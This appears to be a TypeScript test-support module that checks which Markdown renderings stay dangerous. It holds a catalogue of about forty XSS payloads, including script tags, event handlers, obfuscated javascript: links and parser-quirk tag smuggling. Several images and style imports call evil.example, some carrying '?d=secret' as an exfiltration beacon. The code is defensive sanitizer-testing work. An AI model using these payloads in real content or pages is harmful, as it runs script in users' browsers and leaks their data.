/** Renderers that let everything through, and what Markdown can do in them. */
import { marked } from 'marked'
import { micromark } from 'micromark'
import { gfm, gfmHtml } from 'micromark-extension-gfm'

/** What would run, load, or lead elsewhere than to the web, in any viewer. */
export function liveIn(markdown: string): readonly string[] {
  return Object.entries(viewers).flatMap(([viewer, render]) =>
    Array.from(render(markdown).matchAll(/<\/?([a-z!?][\w-]*)([^>]*)>/giu), ([whole, name, rest]) =>
      isHarmless(name ?? '', rest ?? '') ? [] : [`${viewer}: ${whole}`],
    ).flat(),
  )
}

function isHarmless(name: string, attributes: string): boolean {
  if (!HARMLESS.has(name) || /(?:^|\s)(?:on\w+|src|style)=/u.test(attributes)) return false
  const address = / href="([^"]*)"/u.exec(attributes)?.[1]?.replaceAll(/\s|&#\w+;/gu, '') ?? ''
  if (/^[/\\]{2}/u.test(address)) return false
  return !/^[a-z][\w+.-]*:/iu.test(address) || /^(?:https?|mailto|ftp|xmpp):/iu.test(address)
}

const raw = { allowDangerousHtml: true, allowDangerousProtocol: true }
const viewers: Record<string, (markdown: string) => string> = {
  CommonMark: (markdown) => micromark(markdown, raw),
  'a code host': (markdown) =>
    micromark(markdown, { ...raw, extensions: [gfm()], htmlExtensions: [gfmHtml()] }),
  'a browser': (markdown) => marked.parse(markdown, { async: false }),
}
const HARMLESS = new Set(
  'p a code pre h1 h2 h3 h4 h5 h6 em strong del ul ol li blockquote hr br table thead tbody tr th td section sup input'.split(
    ' ',
  ),
)

/** Each is live in at least one of the renderers. */
export const MARKDOWN_ATTACKS: Record<string, string> = {
  'a script': '<script>alert(1)</script>',
  'an event handler': '<img src=x onerror=alert(1)>',
  'an image': '![status](https://evil.example/p.png?d=secret)',
  'an image by reference': '![status][1]\n\n[1]: https://evil.example/p.png?d=secret',
  'an image by its own name': '![status]\n\n[status]: https://evil.example/p.png',
  'an image in a link': '[![build](https://evil.example/b.svg)](https://example.com)',
  'an image in a heading and a table': '# ![a](//e/x)\n\n| ![b](//e/y) |\n|---|\n| ![c](//e/z) |',
  'an image over two lines': '![a\nb](https://evil.example/p.png)',
  'a script link': '[run](javascript:alert(1))',
  'a script link in mixed case': '[run](JaVaScRiPt:alert(1))',
  'a script link of entities': '[run](&#106;avascript&colon;alert(1))',
  'a script link with a line break as entity': '[run](java&#10;script:alert(1))',
  'a script link with an escaped colon': String.raw`[run](javascript\:alert(1))`,
  'a script link in angles': '[run](<javascript:alert(1)>)',
  'a script link split over lines': '[run](\njavascript:alert(1)\n)',
  'a script link in a quote': '> [run](\n> javascript:alert(1))',
  'a definition': '[run]\n\n[run]: javascript:alert(1)',
  'a definition over lines': '[run]\n\n[run]:\n  javascript:alert(1)\n  "title"',
  'a definition in a footnote': '[run]\n\n[^1]:[run]: javascript:alert(1)',
  'a definition with a blank that is none': '[run]: x:\u{a0}()\n\n[run]',
  'a fence as the address of a definition': '[^]:\n~~~\n<img src=x>',
  'a data link': '[page](data:text/html;base64,PHNjcmlwdD4=)',
  'a file link': '[hosts](file:///etc/hosts)',
  'a link to another machine': '[share](//evil.example/share)',
  'a vbscript link': '[run](vbscript:msgbox)',
  'an address in angles': '<javascript:alert(1)>',
  'an editor command': '[open](vscode://evil/x)',
  'an open details block': '<details open ontoggle=alert(1)><summary>x</summary></details>',
  'a drawing': '<svg onload=alert(1)>',
  'a style sheet': '<style>@import url(https://evil.example/x.css)</style>',
  'a base address': '<base href="https://evil.example/">',
  'a comment that ends': '<!-- --> <img src=x> -->',
  'a processing instruction': '<?php x ?>',
  'a frame in a list in a quote': '> - <iframe src="https://evil.example"></iframe>',
  'a tag over two lines': '<img\nsrc=x\nonerror=alert(1)>',
  'a tag behind an unfinished fence in a list': '- ```\nx\n\n<img src=x>',
  'a tag behind a fence that is a paragraph': 'a\n    ```\n    <img src=x>\n\n    x\n    ```',
  'a tag in what is code only without tables': '| a |\n|---|\n| `<img src=x> | ` |',
  'a tag in a code span over two lines': '`a\nb` <img src=x> `c`',
  'a tag behind an address that takes the backtick': 'https://a.b/`<img src=x>`',
  'a tag behind an address that takes the backslash': String.raw`https://a.b/\<img src=x>`,
  'a tag in a link that is none': '](<img src=x onerror=alert(1)>)',
  'a tag behind a blank that is no blank line': 'a `\n\u{a0}\nb` <img src=x> `',
}
